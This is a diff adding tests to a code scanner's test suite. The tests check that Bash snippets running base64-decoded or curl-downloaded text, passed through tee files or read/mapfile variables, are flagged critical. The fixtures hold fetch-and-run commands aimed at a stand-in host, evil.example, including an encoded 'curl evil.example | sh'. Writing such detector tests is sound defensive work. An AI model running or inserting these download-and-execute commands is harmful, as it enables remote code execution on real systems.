@@ -122,3 +122,28 @@ describe("javascript and typescript values followed through simple data flow", (
     expect((await worst("typescript", code)).rules).toEqual([]);
   });
 });
+
+/** Bash: a download or decoded payload run through a file written by tee, or a variable filled by read/mapfile. */
+const B64 = "Y3VybCBldmlsLmV4YW1wbGUgfCBzaA=="; // "curl evil.example | sh"
+const SH_INDIRECT: Record<string, string> = {
+  ". of a file tee wrote from a decoder": `echo ${B64} | base64 -d | tee /tmp/x.sh >/dev/null\n. /tmp/x.sh`,
+  "bash of a file tee -a wrote from a decoder": `echo ${B64} | base64 -d | tee -a /tmp/x.sh\nbash /tmp/x.sh`,
+  "source of a file tee wrote from curl": "curl -s http://evil.example/x | tee /tmp/x.sh >/dev/null\nsource /tmp/x.sh",
+  "eval of what read took from a decoder": `read -r cmd < <(echo ${B64} | base64 -d)\neval "$cmd"`,
+  "eval of what read took from a here-string": `read -r cmd <<< "$(echo ${B64} | base64 -d)"\neval "$cmd"`,
+  "eval of a mapfile element": `mapfile -t lines < <(echo ${B64} | base64 -d)\neval "\${lines[0]}"`,
+};
+
+describe("bash values followed through files and read", () => {
+  for (const [how, code] of Object.entries(SH_INDIRECT)) {
+    it(`finds ${how} critical, as running the decoded or downloaded text directly`, async () => {
+      const r = await worst("bash", code);
+      expect(r.severity, r.rules.join()).toBe("critical");
+    });
+  }
+
+  it("stays quiet on tee of ordinary output and read of ordinary input", async () => {
+    const r = await worst("bash", 'ls -la | tee /tmp/listing.txt\nread -r name < /tmp/listing.txt\necho "first: $name"\nmapfile -t rows < <(sort /tmp/listing.txt)\necho "${rows[0]}"\n. /tmp/listing.txt');
+    expect(r.rules.filter((rule) => /^(high|critical)/.test(rule))).toEqual([]);
+  });
+});
